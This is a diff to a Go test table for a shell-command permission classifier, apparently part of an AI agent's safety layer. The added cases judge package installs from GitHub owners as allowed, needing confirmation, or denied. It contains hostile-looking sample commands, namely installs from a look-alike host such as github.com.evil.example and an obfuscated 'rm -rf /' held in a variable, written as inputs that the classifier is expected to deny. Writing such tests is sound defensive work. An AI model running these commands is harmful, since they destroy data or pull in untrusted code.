@@ -55,6 +55,26 @@ var classTests19B = []classTest{
 	{"command-in-variable", `X="pytest -q"; "$X" tests`, Ask},
 	{"command-in-variable", `IFS=,; X="rm,-rf,/"; $X`, Deny},
 	{"command-in-variable", `X="ls ~"; $X`, Ask},
+	// An installer told to fetch a package from the github.com repository
+	// of an owner whose repositories are widely used packages' sources
+	// gets what that owner publishes; another owner, a look-alike, another
+	// host, plain http, an index of one's own or a runner keep their verdict.
+	{"known-source-install", `pip install "git+https://github.com/pallets/flask@3.0.3"`, Allow},
+	{"known-source-install", `uv pip install git+https://github.com/huggingface/transformers`, Allow},
+	{"known-source-install", `npm install github:expressjs/express#v4.19.2`, Allow},
+	{"known-source-install", `yarn add sindresorhus/got`, Allow},
+	{"known-source-install", `pip install -e . git+ssh://git@github.com/psf/requests.git@v2.32.3`, Allow},
+	{"known-source-install", `pip install git+https://github.com/pallets-dev/flask@3.0.3`, Ask},
+	{"known-source-install", `pip install git+https://github.com/someone/flask`, Deny},
+	{"known-source-install", `pip install git+https://github.com.evil.example/pallets/flask`, Deny},
+	{"known-source-install", `pip install git+http://github.com/pallets/flask@3.0.3`, Ask},
+	{"known-source-install", `pip install --index-url https://pkgs.example/simple git+https://github.com/pallets/flask@3.0.3`, Deny},
+	{"known-source-install", `npm install github:expressjs/express gitlab:someone/tool`, Deny},
+	{"known-source-install", `npm install someone/express`, Deny},
+	{"known-source-install", `npx --yes some-tool github:sindresorhus/got`, Deny},
+	{"known-source-install", `uvx --from git+https://github.com/psf/black@24.4.2 black .`, Ask},
+	{"known-source-install", `uvx --from git+https://git.example/x black .`, Deny},
+	{"known-source-install", `uvx --with=git+https://git.example/x ruff check .`, Deny},
 }
 
 func TestClasses19B(t *testing.T) { checkClasses(t, classTests19B) }
